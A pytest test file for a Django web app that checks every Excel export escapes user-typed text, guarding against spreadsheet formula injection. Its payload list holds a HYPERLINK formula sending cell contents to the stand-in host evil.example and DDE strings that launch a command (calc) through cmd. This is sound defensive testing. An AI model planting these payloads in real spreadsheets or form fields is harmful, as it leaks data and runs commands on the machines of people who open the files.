"""Formula injection: whatever a person types (a public respondent's answer, an action title, a framework name) comes
out of every Excel download as text, never as a formula Excel would run.

Every `.xlsx` URL of the project is walked: a new XLSX export without a case here fails the suite.
"""

import io
import re
import zipfile
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from actions import services as action_services
from actions.models import Source
from assessments.models import IndicatorAnswer
from assessments.tests.factories import answer_for, make_assessment
from assessments.tests.factories import make_version as make_sa_version
from frameworks.importing import import_framework
from frameworks.tests.factories import make_data
from kokybe.lib import xlsx
from kokybe.tests.test_grid import url_patterns
from surveys.tests.factories import add_response, make_campaign, make_version

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&B2,"x")'
PAYLOADS = [HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def formulas(content):
    """Every <f> element in the workbook's sheets: what Excel would calculate."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            match
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f[ >].*?</f>|<f/>", archive.read(name).decode())
        ]


def strings(content):
    """{text: data type} of every text cell of every sheet."""
    book = load_workbook(io.BytesIO(content))
    return {
        cell.value: cell.data_type
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_text_only(content, payloads):
    assert formulas(content) == []
    found = strings(content)
    for payload in payloads:
        assert found.get(payload) == "s", (payload, found.get(payload))


# ── one case per XLSX download ───────────────────────────────────────────────────────────────────────────────────


def plan_export(cast):
    for payload in PAYLOADS:
        action_services.action_create(
            org=cast.alfa, title=payload, description=payload, source=Source.OTHER, by=cast.jonas
        )
    return reverse("actions:export_xlsx", args=[cast.alfa.slug]), PAYLOADS


def plan_import_template(cast):
    # Nothing a person typed reaches the template but the principle codes of the organisation's frameworks.
    data = make_data(code="evil-fw", principles=1)
    data["principles"][0]["code"] = "=1+1"
    import_framework(data, org=cast.alfa)
    return reverse("actions:import_template", args=[cast.alfa.slug]), []


def survey_answers(cast):
    campaign = make_campaign(cast.alfa, make_version(), by=cast.jonas, title=HYPERLINK)
    for payload in PAYLOADS:
        add_response(campaign, {"rate": 4, "comment": payload}, group=payload)
    return reverse("surveys:raw_xlsx", args=[cast.alfa.slug, campaign.pk]), PAYLOADS


def survey_summary(cast):
    campaign = make_campaign(cast.alfa, make_version(), by=cast.jonas, title=HYPERLINK)
    add_response(campaign, {"rate": 4, "comment": "-"})
    return reverse("surveys:summary_xlsx", args=[cast.alfa.slug, campaign.pk]), [HYPERLINK]


def assessment_ratings(cast):
    cycle = make_assessment(cast, make_sa_version(principles=1, criteria=1, indicators=len(PAYLOADS)))
    for i, payload in enumerate(PAYLOADS, start=1):
        IndicatorAnswer.objects.filter(pk=answer_for(cycle, f"1.1.{i}").pk).update(
            rating="not_met", narrative=payload, reason=payload
        )
    return reverse("assessments:ratings_xlsx", args=[cast.alfa.slug, cycle.pk]), PAYLOADS


def framework_export(cast):
    data = make_data(code="evil-fw", principles=1)
    data["framework"]["name_lt"] = HYPERLINK
    data["principles"][0]["name_lt"] = "@SUM(1+1)"
    data["principles"][0]["criteria"][0]["title_lt"] = "-2+3"
    version = import_framework(data, org=cast.alfa).version
    return reverse("frameworks:export_xlsx", args=[cast.alfa.slug, version.pk]), [HYPERLINK, "@SUM(1+1)", "-2+3"]


def framework_template(cast):
    return reverse("frameworks:template", args=[cast.alfa.slug]), []


def programme_board(cast):
    from programmes.services import milestones_instantiate
    from programmes.tests.factories import cast_programme

    programme = cast_programme(cast)
    cast.beta.name, cast.beta.municipality, cast.beta.company_code = HYPERLINK, "+1+1", "@SUM(1+1)"
    cast.beta.save()
    milestones_instantiate(programme.participations.select_related("programme"))
    return reverse("programmes:board_export", args=[programme.pk]), [HYPERLINK, "+1+1", "@SUM(1+1)"]


def programme_participants_template(cast):
    # A fixed template: nothing a person typed reaches it.
    from programmes.tests.factories import cast_programme

    programme = cast_programme(cast)
    return reverse("programmes:participants_template", args=[programme.pk]), []


def programme_report(cast):
    from programmes.tests.factories import cast_programme

    programme = cast_programme(cast)
    programme.funder = "-2+3+cmd|' /C calc'!A0"
    programme.save()
    indicator = programme.indicators.get()
    indicator.name, indicator.unit = HYPERLINK, "@SUM(1+1)"
    indicator.save()
    return reverse("programmes:report_xlsx", args=[programme.pk]), [programme.funder, HYPERLINK, "@SUM(1+1)"]


def _result(cast):
    from results.models import Definition, Indicator, Value

    definition = Definition.objects.create(
        org=cast.alfa,
        code="evil",
        name_lt=HYPERLINK,
        name_en=HYPERLINK,
        unit="count",
        frequency="year",
        principles=["1"],
    )
    indicator = Indicator.objects.create(org=cast.alfa, definition=definition, frequency="year", baseline_year=2024)
    for year, payload in zip(range(2024, 2030), PAYLOADS[1:], strict=False):
        Value.objects.create(org=cast.alfa, indicator=indicator, period=str(year), value=1, comment=payload)
    return indicator


def results_sheet(cast):
    _result(cast)
    return reverse("results:sheet_xlsx", args=[cast.alfa.slug]), [HYPERLINK]


def results_template(cast):
    indicator = _result(cast)
    url = reverse("results:import_template", args=[cast.alfa.slug]) + f"?indicators={indicator.pk}&first_year=2024"
    return url, [HYPERLINK, PAYLOADS[1], PAYLOADS[2]]


CASES = {
    "programmes:board_export": programme_board,
    "programmes:report_xlsx": programme_report,
    "programmes:participants_template": programme_participants_template,
    "results:sheet_xlsx": results_sheet,
    "results:import_template": results_template,
    "actions:export_xlsx": plan_export,
    "actions:import_template": plan_import_template,
    "surveys:raw_xlsx": survey_answers,
    "surveys:summary_xlsx": survey_summary,
    "assessments:ratings_xlsx": assessment_ratings,
    "frameworks:export_xlsx": framework_export,
    "frameworks:template": framework_template,
}


def test_every_xlsx_download_has_an_injection_case():
    xlsx_routes = {name for name, route, _cb in url_patterns() if route.rstrip("$").endswith(".xlsx")}
    assert xlsx_routes == set(CASES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_text_that_looks_like_a_formula_comes_out_as_text(cast, name):
    url, payloads = CASES[name](cast)
    response = client_for(cast.jonas).get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == xlsx.CONTENT_TYPE
    assert response["X-Content-Type-Options"] == "nosniff"
    assert_text_only(response.content, payloads)


# ── the helper itself ────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("write_only", [False, True])
def test_helper_writes_formula_like_text_as_quoted_text_and_keeps_it_unchanged(write_only):
    book = Workbook(write_only=write_only)
    ws = book.create_sheet("S") if write_only else book.active
    xlsx.append(ws, [*PAYLOADS, "plain", 3, date(2026, 12, 7), xlsx.percent(87.5)])
    content = xlsx.save(book)
    assert formulas(content) == []
    row = next(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())
    assert [c.value for c in row[: len(PAYLOADS)]] == PAYLOADS
    assert all(c.data_type == "s" and c.quotePrefix for c in row[: len(PAYLOADS)])
    plain, number, day, share = row[len(PAYLOADS) :]
    assert not plain.quotePrefix and number.value == 3 and number.data_type == "n"
    assert day.is_date and day.number_format == "yyyy-mm-dd"
    assert share.value == 0.875 and share.number_format == "0.0%"


def test_without_the_helper_openpyxl_would_write_a_formula():
    # The reason the helper exists: openpyxl makes any string beginning with "=" a formula.
    book = Workbook()
    book.active.append([HYPERLINK])
    assert formulas(xlsx.save(book))
